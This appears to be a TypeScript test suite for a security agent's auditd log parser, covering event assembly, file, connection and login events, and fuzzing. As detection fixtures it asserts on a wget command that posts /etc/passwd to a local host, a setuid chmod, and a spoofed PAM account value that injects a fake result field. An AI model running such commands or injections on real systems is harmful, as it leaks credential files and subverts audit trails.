import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import t from 'tap';
import { type AuditAct, actOf } from '../../../agent/sensors/audit/act.ts';
import { AuditAssembler, type AuditEvent } from '../../../agent/sensors/audit/assembler.ts';
import { AuditConnections } from '../../../agent/sensors/audit/connections.ts';
import { fileEvents } from '../../../agent/sensors/audit/file-events.ts';
import { loginEvent } from '../../../agent/sensors/audit/login-event.ts';
import { keysOf, parseAuditRecord } from '../../../agent/sensors/audit/record.ts';
import { recordEvents } from '../../../agent/sensors/audit/record-event.ts';
import { socketAddressOf } from '../../../agent/sensors/audit/socket-address.ts';
import { LinuxHost } from '../../../agent/sensors/linux/host.ts';
import { settingsOf } from '../../../agent/sensors/options.ts';
import { faultOf } from './collected.ts';

/** Both were written by auditd 3.0.9 on Linux 6.18 over the same acts, see the rules and commands in the records. */
const logs = ['enriched', 'raw'] as const;

function eventsIn(text: string): AuditEvent[] {
  const events: AuditEvent[] = [];
  const assembler = new AuditAssembler((event) => events.push(event));
  for (const line of text.split('\n')) {
    const record = parseAuditRecord(line);
    if (record !== undefined) assembler.add(record, 0);
  }
  assembler.expire(Number.POSITIVE_INFINITY);
  return events;
}

function actsIn(name: string): AuditAct[] {
  const path = join(import.meta.dirname, `../../fixtures/audit/${name}.txt`);
  return eventsIn(readFileSync(path, 'latin1')).map(actOf);
}

for (const name of logs) {
  t.test(`${name}: every record is read, and belongs to one event`, async (t) => {
    const path = join(import.meta.dirname, `../../fixtures/audit/${name}.txt`);
    const lines = readFileSync(path, 'latin1').split('\n').slice(0, -1);
    t.ok(lines.every((line) => parseAuditRecord(line) !== undefined));
    const acts = actsIn(name);
    const keys = acts.map(({ event }) => event.serial);
    t.equal(new Set(keys).size, keys.length);
    t.equal(
      acts.reduce((sum, { event }) => sum + event.records.length, 0),
      lines.length,
    );
    for (const act of acts)
      for (const event of recordEvents(act)) t.equal(faultOf(event), undefined, JSON.stringify(event));
  });

  t.test(`${name}: programs with their arguments`, async (t) => {
    const started = actsIn(name).filter(({ callName }) => callName === 'execve');
    const find = (comm: string) => started.find((act) => act.comm === comm);
    t.same(find('ls')?.arguments, ['/bin/ls', '-l', 'a b', 'new\nline']);
    t.match(find('wget'), {
      exe: '/usr/bin/wget',
      commandLine: '/usr/bin/wget --post-file=/etc/passwd http://127.0.0.1:1/',
      cwd: '/tmp/aud/play',
      userId: '0',
      pid: Number,
      parentPid: Number,
      succeeded: true,
    });
    t.equal(find('echo')?.commandLine?.length, '/bin/echo '.length + 5000);
  });

  t.test(`${name}: what was done to files`, async (t) => {
    const events = actsIn(name).flatMap(fileEvents);
    for (const event of events) t.equal(faultOf(event), undefined);
    const told = events.map((event) =>
      [
        event.type.slice('file.'.length),
        ...('file.previous.path' in event ? [event['file.previous.path']] : []),
        event['file.path'].replace('/tmp/aud/play', ''),
        ...('file.changes' in event ? (event['file.changes'] ?? []) : []),
      ].join(' '),
    );
    t.same(told, [
      'change  mode',
      'create /f1',
      'rename /tmp/aud/play/f1 /f 2',
      'change /f 2 mode',
      'delete /f 2',
      'create /d',
      'delete /d',
      'create /l',
      'delete /l',
      'create /t',
      'change /t content',
      'delete /t',
      'create /bad\ufffd\ufffdname',
      'delete /bad\ufffd\ufffdname',
      'create /nod',
      'delete /nod',
    ]);
    const [, , , mode] = events;
    t.match(mode, {
      'event.provider': 'auditd',
      'file.mode': '4755',
      'file.previous.mode': '0644',
      'file.type': 'file',
      'file.uid': '0',
      'process.executable': '/usr/bin/chmod',
      'process.command_line': 'chmod 4755 f 2',
    });
    t.match(
      events.filter((event) => event['file.name'] === 'nod').map((event) => event['file.type']),
      ['fifo', 'fifo'],
    );
  });

  t.test(`${name}: connections whose transport is known`, async (t) => {
    const host = new LinuxHost(settingsOf({ procRoot: '/nonexistent' }));
    const connections = new AuditConnections();
    const told = actsIn(name).flatMap((act) => connections.eventOf(act, host) ?? []);
    t.match(told, [
      {
        'event.action': 'accepted',
        'network.transport': 'tcp',
        'source.ip': '127.0.0.1',
        'process.name': 'python3',
      },
    ]);
    for (const event of told) t.equal(faultOf(event), undefined);
    const peers = actsIn(name)
      .flatMap((act) => act.event.records)
      .flatMap((record) => (record.type === 'SOCKADDR' ? [socketAddressOf(record.fields.get('saddr'))] : []));
    t.ok(peers.some((peer) => peer?.ip === '::1' && peer.port === 1));
    t.ok(peers.some((peer) => peer?.path === '/run/nothing here'));
    t.ok(peers.some((peer) => peer?.path === '@abstract'));
  });

  t.test(`${name}: logins`, async (t) => {
    const told = actsIn(name).flatMap(({ event }) =>
      event.records.flatMap((record) => loginEvent(record) ?? []),
    );
    for (const event of told) t.equal(faultOf(event), undefined);
    t.match(told, [
      { 'event.action': 'sudo', 'process.command_line': '/usr/bin/id -u x y', 'process.name': 'sudo' },
      { 'event.action': 'session-open', 'user.name': 'nobody', 'process.name': 'sudo' },
      { 'event.action': 'session-close', 'user.name': 'nobody', 'log.source': 'audit' },
      { 'event.action': 'session-open', 'user.name': 'nobody', 'process.name': 'su' },
      { 'event.action': 'session-close', 'user.name': 'nobody' },
    ]);
  });
}

const head = (type: string, serial = 7) => `type=${type} msg=audit(1795275309.107:${serial}): `;

t.test('records of programs, of failures, and odd ones', async (t) => {
  const login = (type: string, text: string) => {
    const record = parseAuditRecord(`${head(type)}pid=5 uid=0 msg='${text}'`);
    return record === undefined ? undefined : loginEvent(record);
  };
  t.match(
    login(
      'USER_LOGIN',
      'op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=10.0.0.9 terminal=ssh res=failed',
    ),
    {
      'event.action': 'failed',
      'user.name': 'root',
      'source.ip': '10.0.0.9',
      'process.tty': undefined,
      time: 1_795_275_309_107_000,
    },
  );
  const spoofed = login(
    'USER_AUTH',
    `op=PAM:authentication acct=${Buffer.from('a" res=success').toString('hex')} res=failed`,
  );
  t.match(spoofed, { 'event.outcome': 'failure', 'user.name': 'a" res=success' });
  t.equal(login('CRED_ACQ', 'op=PAM:setcred acct="a" res=success'), undefined);
  const keys = parseAuditRecord(
    `${head('SYSCALL')}comm=2E2F61 key=${Buffer.from('one\x01two').toString('hex')}`,
  );
  t.same(keys && keysOf(keys), ['one', 'two']);
  t.equal(keys?.fields.get('comm'), './a');
  t.equal(parseAuditRecord('type=SYSCALL msg=audit(x:1): a=b'), undefined);
  t.equal(parseAuditRecord(`node=h ${head('CWD')}cwd="/"`)?.fields.get('cwd'), '/');
  t.equal(parseAuditRecord(`${head('CWD')}cwd="/unclosed`)?.fields.get('cwd'), '/unclosed');
  const tty = eventsIn(`${head('TTY')}tty pid=1 data=68756E74657232\n`).flatMap((e) => [
    ...recordEvents(actOf(e)),
  ]);
  t.equal(tty.length, 1);
  t.notMatch(JSON.stringify(tty), /68756E|hunter/, 'what was typed is left out');
});

t.test('an argument in pieces over several records, and the title where there is none', async (t) => {
  const hex = Buffer.from('é'.repeat(3000)).toString('hex').toUpperCase();
  const lines = [
    `${head('SYSCALL')}arch=c000003e syscall=59 success=yes exit=0 pid=9 comm="x" exe="/x"`,
    `${head('EXECVE')}argc=3 a0="x" a1_len=${hex.length} a1[0]=${hex.slice(0, 7501)}`,
    `${head('EXECVE')} a1[1]=${hex.slice(7501)}`,
    `${head('EXECVE')} a2="last"`,
    `${head('PROCTITLE')}proctitle=78`,
  ];
  const [event] = eventsIn(lines.join('\n'));
  const act = event && actOf(event);
  t.same(act?.arguments, ['x', 'é'.repeat(3000), 'last']);
  t.same(act && [...recordEvents(act)].map((one) => one['auditd.type']), ['SYSCALL', 'EXECVE', 'PROCTITLE']);
  const [titled] = eventsIn(`${lines[0]}\n${head('PROCTITLE')}proctitle=782061006220630000\n`);
  t.equal(titled && actOf(titled).commandLine, 'x a b c');
});

t.test('events are put together however their records are mixed, cut off or flooded', async (t) => {
  fc.assert(
    fc.property(fc.array(fc.nat(9), { minLength: 1, maxLength: 80 }), (order) => {
      const got: AuditEvent[] = [];
      const assembler = new AuditAssembler((event) => got.push(event));
      const sent = new Map<number, number>();
      for (const serial of order) {
        const record = parseAuditRecord(`${head('PATH', serial)}item=0 name="/"`);
        if (record === undefined) return false;
        assembler.add(record, 0);
        sent.set(serial, (sent.get(serial) ?? 0) + 1);
      }
      for (const serial of sent.keys()) {
        const end = parseAuditRecord(`${head(serial % 2 === 0 ? 'EOE' : 'PROCTITLE', serial)}`);
        if (end !== undefined && serial !== 4) assembler.add(end, 0);
      }
      const early = got.length;
      assembler.expire(1999);
      if (got.length !== early) return false;
      assembler.expire(2000);
      return (
        assembler.waiting === 0 &&
        got.length === sent.size &&
        got.every(
          ({ serial, records }) => records.filter((r) => r.type === 'PATH').length === sent.get(serial),
        )
      );
    }),
  );
  const got: AuditEvent[] = [];
  const assembler = new AuditAssembler((event) => got.push(event));
  for (let i = 0; i < 5000; i++) {
    const record = parseAuditRecord(`${head('SYSCALL', i)}pid=1`);
    if (record !== undefined) assembler.add(record, 0);
  }
  t.equal(assembler.waiting, 1024);
  t.equal(got.length, 5000 - 1024, 'the oldest are given as they are');
  for (let i = 0; i < 1000; i++) {
    const record = parseAuditRecord(`${head('PATH', 4999)}item=${i}`);
    if (record !== undefined) assembler.add(record, 0);
  }
  t.ok(assembler.dropped > 400, 'records of one event are bounded');
});

t.test('nothing thrown for any line', async () => {
  const types = fc.constantFrom('SYSCALL', 'EXECVE', 'PATH', 'SOCKADDR', 'USER_CMD', 'PROCTITLE', 'TTY', 'X');
  const piece = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.constantFrom(
      'a0=',
      'name="',
      "msg='",
      'saddr=0200',
      '\x1d',
      'syscall=59 arch=c000003e success=yes ',
      ' key=',
      '{ ',
    ),
    fc.stringMatching(/^ [a-z0-9]{1,6}=[0-9A-F"']{0,20}$/),
  );
  const host = new LinuxHost(settingsOf({ procRoot: '/nonexistent' }));
  fc.assert(
    fc.property(fc.array(fc.tuple(types, fc.array(piece, { maxLength: 8 })), { maxLength: 6 }), (records) => {
      const text = records.map(([type, parts]) => `${head(type)}${parts.join('')}`).join('\n');
      const connections = new AuditConnections();
      for (const event of eventsIn(text)) {
        const act = actOf(event);
        const told = [...recordEvents(act), ...fileEvents(act), connections.eventOf(act, host)];
        for (const one of [...told, ...event.records.map(loginEvent)])
          if (one !== undefined && faultOf(one) !== undefined) throw new Error(faultOf(one));
      }
    }),
    { numRuns: 300 },
  );
});
